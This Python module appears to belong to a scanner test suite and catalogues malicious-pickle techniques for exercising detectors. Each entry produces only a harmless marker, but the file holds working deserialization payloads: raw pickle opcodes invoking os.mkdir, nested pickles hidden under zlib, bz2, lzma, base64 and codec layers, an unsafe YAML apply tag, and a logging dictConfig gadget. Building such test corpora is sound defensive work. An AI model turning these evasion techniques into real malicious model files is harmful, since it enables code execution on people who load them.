"""Payloads that touch files and sockets, or that load something else: nested pickles, second files, archives."""

from __future__ import annotations

import base64
import bz2
import io
import lzma
import zlib

from attacks.expressions import Name, do, name
from attacks.mechanism import Mechanism, Target

_W, _S, _L = "touches files", "opens sockets", "loads something else"
_MODERN = ("4", "5", "GLOBAL")


def _inner(target: Target) -> bytes:
    """A stream that makes the marker."""
    return b"cos\nmkdir\n(V" + target.marker.encode() + b"\ntR."


def _torch_file(target: Target) -> bytes:
    from zip_builder import archive, checkpoint

    return archive(*checkpoint(b"\x80\x02" + _inner(target)))


def _array_file(target: Target) -> bytes:
    import numpy as np

    file = io.BytesIO()
    np.lib.format.write_array_header_1_0(file, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return file.getvalue() + _inner(target)


def _counted(content: bytes) -> bytes:
    return len(content).to_bytes(4, "little") + content


def _io(content: bytes) -> object:
    return do("io.BytesIO", content)


MECHANISMS = (
    # Files
    Mechanism(title="open", family=_W, build=lambda t: do("builtins.open", t.marker, "w")),
    Mechanism(title="open of io", family=_W, build=lambda t: do("io.open", t.marker, "wb")),
    Mechanism(title="a raw file", family=_W, build=lambda t: do("io.FileIO", t.marker, "w")),
    Mechanism(title="open by flags", family=_W, build=lambda t: do("os.open", t.marker, 0o101)),
    Mechanism(title="open with a codec", family=_W, build=lambda t: do("codecs.open", t.marker, "w")),
    Mechanism(
        title="a path that is written",
        family=_W,
        build=lambda t: do(Name("pathlib", "Path.write_text"), do("pathlib.Path", t.marker), "x"),
        styles=_MODERN,
    ),
    Mechanism(
        title="a path that is touched",
        family=_W,
        build=lambda t: do(do("builtins.getattr", do("pathlib.PosixPath", t.marker), "touch")),
    ),
    Mechanism(title="a link", family=_W, build=lambda t: do("os.symlink", t.folder, t.marker)),
    Mechanism(
        title="a file that is moved",
        family=_W,
        build=lambda t: do("os.rename", t.beside("victim"), t.marker),
        beside={"victim": lambda _: b"x\n"},
    ),
    Mechanism(
        title="a file that is copied",
        family=_W,
        build=lambda t: do("shutil.copyfile", t.beside("victim"), t.marker),
        beside={"victim": lambda _: b"x\n"},
    ),
    Mechanism(title="a tree that is copied", family=_W, build=lambda t: do("shutil.copytree", t.folder, t.marker)),
    Mechanism(title="a log file", family=_W, build=lambda t: do("logging.FileHandler", t.marker)),
    Mechanism(
        title="a database",
        family=_W,
        build=lambda t: do(
            Name("sqlite3", "Connection.execute"), do("sqlite3.connect", t.marker), "create table t (x)"
        ),
        styles=_MODERN,
    ),
    Mechanism(title="a zip archive that is begun", family=_W, build=lambda t: do("zipfile.ZipFile", t.marker, "w")),
    Mechanism(title="a tar archive that is begun", family=_W, build=lambda t: do("tarfile.TarFile", t.marker, "w")),
    Mechanism(title="a compressed file", family=_W, build=lambda t: do("gzip.GzipFile", t.marker, "wb")),
    Mechanism(title="another compressed file", family=_W, build=lambda t: do("lzma.open", t.marker, "w")),
    Mechanism(
        title="a temporary folder",
        family=_W,
        build=lambda t: do("os.rename", do("tempfile.mkdtemp", "", "", t.folder), t.marker),
    ),
    Mechanism(
        title="a memory map of numpy",
        family=_W,
        build=lambda t: do("numpy.memmap", t.marker, "u1", "w+", 0, 8),
        needs=("numpy",),
    ),
    Mechanism(title="numpy.save", family=_W, build=lambda t: do("numpy.savetxt", t.marker, [1]), needs=("numpy",)),
    Mechanism(
        title="torch.save", family=_W, build=lambda t: do("torch.serialization.save", [1], t.marker), needs=("torch",)
    ),
    Mechanism(
        title="joblib.dump", family=_W, build=lambda t: do("joblib.numpy_pickle.dump", [1], t.marker), needs=("joblib",)
    ),
    Mechanism(
        title="a frame that is written",
        family=_W,
        build=lambda t: do(Name("pandas", "DataFrame.to_csv"), do("pandas.DataFrame", [1]), t.marker),
        needs=("pandas",),
        styles=_MODERN,
        at_least="review",
    ),
    Mechanism(
        title="a data set that is written",
        family=_W,
        build=lambda t: do("sklearn.datasets.dump_svmlight_file", [[1.0]], [1], t.marker),
        needs=("sklearn",),
        at_least="review",
    ),
    Mechanism(
        title="a file handle of dill",
        family=_W,
        build=lambda t: do(
            "dill._dill._create_filehandle", t.marker, "w", 0, False, name("builtins.open"), False, 0, ""
        ),
        needs=("dill",),
    ),
    # Sockets
    Mechanism(
        title="a socket that is bound",
        family=_S,
        build=lambda t: do(Name("socket", "socket.bind"), do("socket.socket", 1), t.digits),
        styles=_MODERN,
    ),
    Mechanism(
        title="a server",
        family=_S,
        build=lambda t: do("socketserver.UnixStreamServer", t.digits, name("socketserver.BaseRequestHandler")),
    ),
    Mechanism(
        title="a download",
        family=_S,
        build=lambda t: do("urllib.request.urlretrieve", f"file://{t.beside('served')}", t.marker),
        beside={"served": lambda _: b"x\n"},
    ),
    # Loaders of bytes
    Mechanism(title="a nested pickle", family=_L, build=lambda t: do("pickle.loads", _inner(t))),
    Mechanism(title="a nested pickle, by the C module", family=_L, build=lambda t: do("_pickle.loads", _inner(t))),
    Mechanism(
        title="a nested pickle, two deep",
        family=_L,
        build=lambda t: do("pickle.loads", b"c_pickle\nloads\n(B" + _counted(_inner(t)) + b"tR."),
    ),
    Mechanism(
        title="a nested pickle from a file in memory",
        family=_L,
        build=lambda t: do("pickle.load", _io(_inner(t))),
    ),
    Mechanism(
        title="an unpickler object",
        family=_L,
        build=lambda t: do(Name("pickle", "Unpickler.load"), do("pickle.Unpickler", _io(_inner(t)))),
        styles=_MODERN,
    ),
    Mechanism(
        title="a nested pickle, zlib",
        family=_L,
        build=lambda t: do("pickle.loads", do("zlib.decompress", zlib.compress(_inner(t)))),
    ),
    Mechanism(
        title="a nested pickle, bz2",
        family=_L,
        build=lambda t: do("pickle.loads", do("bz2.decompress", bz2.compress(_inner(t)))),
    ),
    Mechanism(
        title="a nested pickle, lzma",
        family=_L,
        build=lambda t: do("pickle.loads", do("lzma.decompress", lzma.compress(_inner(t)))),
    ),
    Mechanism(
        title="a nested pickle, base 64",
        family=_L,
        build=lambda t: do("pickle.loads", do("base64.b64decode", base64.b64encode(_inner(t)))),
    ),
    Mechanism(
        title="a nested pickle, by a codec",
        family=_L,
        build=lambda t: do("pickle.loads", do("codecs.decode", zlib.compress(_inner(t)), "zlib")),
    ),
    Mechanism(
        title="a nested pickle, encoded by a codec",
        family=_L,
        build=lambda t: do("pickle.loads", do("_codecs.encode", _inner(t).decode("latin1"), "latin1")),
    ),
    Mechanism(
        title="a message between processes",
        family=_L,
        build=lambda t: do(Name("multiprocessing.reduction", "ForkingPickler.loads"), _inner(t)),
        styles=_MODERN,
    ),
    Mechanism(
        title="bytes of a torch storage",
        family=_L,
        build=lambda t: do("torch.storage._load_from_bytes", _torch_file(t)),
        needs=("torch",),
    ),
    Mechanism(
        title="bytes of a torch storage, bare",
        family=_L,
        build=lambda t: do("torch.storage._load_from_bytes", _inner(t)),
        needs=("torch",),
    ),
    Mechanism(
        title="a decoder of data pipes",
        family=_L,
        build=lambda t: do("torch.utils.data.datapipes.utils.decoder.basichandlers", "pickle", _inner(t)),
        needs=("torch",),
    ),
    Mechanism(title="dill.loads", family=_L, build=lambda t: do("dill.loads", _inner(t)), needs=("dill",)),
    Mechanism(
        title="cloudpickle.loads", family=_L, build=lambda t: do("cloudpickle.loads", _inner(t)), needs=("cloudpickle",)
    ),
    Mechanism(
        title="unsafe YAML",
        family=_L,
        build=lambda t: do("yaml.unsafe_load", f"!!python/object/apply:os.mkdir ['{t.marker}']"),
        needs=("yaml",),
    ),
    Mechanism(
        title="an array of objects in memory",
        family=_L,
        build=lambda t: do("numpy.lib.format.read_array", _io(_array_file(t)), True),
        needs=("numpy",),
    ),
    # Loaders of second files
    Mechanism(
        title="a second file, joblib",
        family=_L,
        build=lambda t: do("joblib.load", t.beside("second")),
        beside={"second": _inner},
        needs=("joblib",),
    ),
    Mechanism(
        title="a second file, pandas",
        family=_L,
        build=lambda t: do("pandas.read_pickle", t.beside("second")),
        beside={"second": _inner},
        needs=("pandas",),
    ),
    Mechanism(
        title="a second file, numpy",
        family=_L,
        build=lambda t: do("numpy.load", t.beside("second"), None, True),
        beside={"second": _inner},
        needs=("numpy",),
    ),
    Mechanism(
        title="a second file, opened",
        family=_L,
        build=lambda t: do("pickle.load", do("builtins.open", t.beside("second"), "rb")),
        beside={"second": _inner},
    ),
    Mechanism(
        title="a shelf",
        family=_L,
        build=lambda t: do("operator.getitem", do("shelve.Shelf", {b"k": _inner(t)}), "k"),
    ),
    Mechanism(
        title="a configuration of logging",
        family=_L,
        build=lambda t: do(
            "logging.config.dictConfig",
            {"version": 1, "handlers": {"h": {"()": "os.mkdir", "path": t.marker}}},
        ),
    ),
)
